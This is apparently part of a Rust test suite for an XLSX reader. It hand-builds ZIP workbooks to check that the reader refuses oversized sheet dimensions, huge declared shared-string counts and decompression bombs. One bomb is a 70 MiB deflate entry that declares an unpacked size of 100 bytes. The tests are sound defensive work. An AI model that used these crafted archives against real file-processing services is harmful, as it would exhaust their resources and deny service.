    fn raw_zip(entries: &[(&str, u16, Vec<u8>, u32)]) -> Vec<u8> {
        let (mut out, mut central) = (Vec::new(), Vec::new());
        for (name, method, data, size) in entries {
            let offset = out.len() as u32;
            let mut crc = flate2::Crc::new();
            if *method == 0 {
                crc.update(data);
            }
            let head = |central: bool| {
                let mut h = Vec::new();
                let signature: u32 = if central { 0x0201_4b50 } else { 0x0403_4b50 };
                h.extend(signature.to_le_bytes());
                if central {
                    h.extend(20u16.to_le_bytes());
                }
                h.extend(20u16.to_le_bytes());
                h.extend(0u16.to_le_bytes());
                h.extend(method.to_le_bytes());
                h.extend(0u32.to_le_bytes());
                h.extend(crc.sum().to_le_bytes());
                h.extend((data.len() as u32).to_le_bytes());
                h.extend(size.to_le_bytes());
                h.extend((name.len() as u16).to_le_bytes());
                h.extend(0u16.to_le_bytes());
                if central {
                    h.extend([0; 10]);
                    h.extend(offset.to_le_bytes());
                }
                h.extend(name.as_bytes());
                h
            };
            out.extend(head(false));
            out.extend(data);
            central.extend(head(true));
        }
        let at = out.len() as u32;
        out.extend(&central);
        out.extend(0x0605_4b50u32.to_le_bytes());
        out.extend([0; 4]);
        out.extend((entries.len() as u16).to_le_bytes());
        out.extend((entries.len() as u16).to_le_bytes());
        out.extend((central.len() as u32).to_le_bytes());
        out.extend(at.to_le_bytes());
        out.extend(0u16.to_le_bytes());
        out
    }

    /// A workbook of one sheet `figures` with the given sheet entry, and other entries (stored).
    fn workbook_with(sheet: (&str, u16, Vec<u8>, u32), extra: &[(&str, &[u8])]) -> Vec<u8> {
        let stored =
            |name: &'static str, bytes: &[u8]| (name, 0, bytes.to_vec(), bytes.len() as u32);
        let mut entries = vec![
            // The package's relationships, which a spreadsheet reader starts from.
            stored(
                "_rels/.rels",
                br#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#,
            ),
            stored(
                "xl/workbook.xml",
                br#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="figures" sheetId="1" r:id="rId1"/></sheets></workbook>"#,
            ),
            stored(
                "xl/_rels/workbook.xml.rels",
                br#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#,
            ),
            sheet,
        ];
        for (name, bytes) in extra {
            entries.push((name, 0, bytes.to_vec(), bytes.len() as u32));
        }
        raw_zip(&entries)
    }

    fn workbook(sheet: &[u8], extra: &[(&str, &[u8])]) -> Vec<u8> {
        let entry = (
            "xl/worksheets/sheet1.xml",
            0,
            sheet.to_vec(),
            sheet.len() as u32,
        );
        workbook_with(entry, extra)
    }

    fn sheet(dimension: &str, cells: &str) -> Vec<u8> {
        format!(
            r#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="{dimension}"/><sheetData>{cells}</sheetData></worksheet>"#
        )
        .into_bytes()
    }

    #[test]
    fn a_sheet_declaring_or_holding_a_far_cell_is_refused_without_expanding_it() {
        let cells = r#"<row r="1"><c r="A1" t="inlineStr"><is><t>plan</t></is></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>"#;
        let declared = workbook(&sheet("A1:XFD1048576", cells), &[]);
        assert!(declared.len() < 2048, "{}", declared.len());
        assert_eq!(
            read_xlsx(&declared, &unlimited()),
            Err(FileError::SheetTooLarge {
                rows: 1_048_576,
                columns: 16_384
            })
        );
        // A sheet may declare less than it holds: each cell is checked as it is read.
        let lying = workbook(&sheet("A1", cells), &[]);
        assert_eq!(read_xlsx(&lying, &unlimited()), Err(FileError::TooManyRows));
        let wide = workbook(
            &sheet(
                "A1",
                r#"<row r="1"><c r="A1"><v>1</v></c></row><row r="7"><c r="AY7"><v>1</v></c></row>"#,
            ),
            &[],
        );
        assert_eq!(
            read_xlsx(&wide, &unlimited()),
            Err(FileError::TooManyColumns { line: 7 })
        );
        let fine = workbook(
            &sheet(
                "A1:B3",
                r#"<row r="1"><c r="A1" t="inlineStr"><is><t>plan</t></is></c></row><row r="3"><c r="B3"><v>2.6</v></c></row>"#,
            ),
            &[],
        );
        let table = read_xlsx(&fine, &unlimited()).unwrap();
        assert_eq!(table.header, ["plan"]);
        assert_eq!(
            table.rows,
            [RawRow {
                line: 3,
                cells: vec![String::new(), "2.6".into()]
            }]
        );
    }

    #[test]
    fn a_workbook_unpacking_beyond_the_limits_is_refused() {
        // Declared: refused before anything is unpacked.
        let mut big = sheet("A1", "");
        big.splice(big.len() - 24..big.len() - 24, b"<x/>".repeat(18 << 20));
        let bomb = workbook(&big, &[]);
        assert_eq!(read_xlsx(&bomb, &unlimited()), Err(FileError::Unzipped));
        let text = vec![b'x'; 9 << 20];
        let parts = workbook(&sheet("A1", ""), &[("xl/sharedStrings.xml", &text)]);
        assert_eq!(
            read_xlsx(&parts, &unlimited()),
            Err(FileError::UnzippedParts)
        );
        // Text between two tags longer than any spreadsheet program writes.
        let mut piece = sheet("A1", "<row r=\"1\"><c r=\"A1\"><v>");
        piece.splice(
            piece.len() - 24..piece.len() - 24,
            std::iter::repeat_n(b'0', 2 << 20),
        );
        assert_eq!(
            read_xlsx(&workbook(&piece, &[]), &unlimited()),
            Err(FileError::XmlPiece)
        );
        // The reader would reserve room for the strings the shared text declares.
        let strings = br#"<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="900000000000"><si><t>plan</t></si></sst>"#;
        let declared = workbook(
            &sheet("A1", r#"<row r="1"><c r="A1" t="s"><v>0</v></c></row>"#),
            &[("xl/sharedStrings.xml", strings)],
        );
        assert_eq!(
            read_xlsx(&declared, &unlimited()),
            Err(FileError::TooManyCells)
        );
        let honest = String::from_utf8(strings.to_vec())
            .unwrap()
            .replace("900000000000", "1");
        let honest = workbook(
            &sheet("A1", r#"<row r="1"><c r="A1" t="s"><v>0</v></c></row>"#),
            &[("xl/sharedStrings.xml", honest.as_bytes())],
        );
        assert_eq!(read_xlsx(&honest, &unlimited()).unwrap().header, ["plan"]);
    }

    #[test]
    fn an_entry_holding_more_than_it_declares_is_stopped_at_the_limit() {
        use flate2::{Compress, Compression, FlushCompress};
        // Raw deflate ending on a byte with its history cleared, so copies can follow.
        let deflate = |bytes: &[u8]| {
            let mut out = Vec::with_capacity(bytes.len() + 64);
            Compress::new(Compression::fast(), false)
                .compress_vec(bytes, &mut out, FlushCompress::Full)
                .unwrap();
            out
        };
        let head = sheet("A1", "");
        let mut data = deflate(&head[..head.len() - "</sheetData></worksheet>".len()]);
        let block = deflate(&b"<x/>".repeat(1 << 18));
        for _ in 0..70 {
            data.extend(&block);
        }
        data.extend([0x03, 0x00]);
        // 70 MiB in an entry that says it unpacks to 100 bytes.
        let bomb = workbook_with(("xl/worksheets/sheet1.xml", 8, data, 100), &[]);
        assert_eq!(read_xlsx(&bomb, &unlimited()), Err(FileError::Unzipped));
    }
}
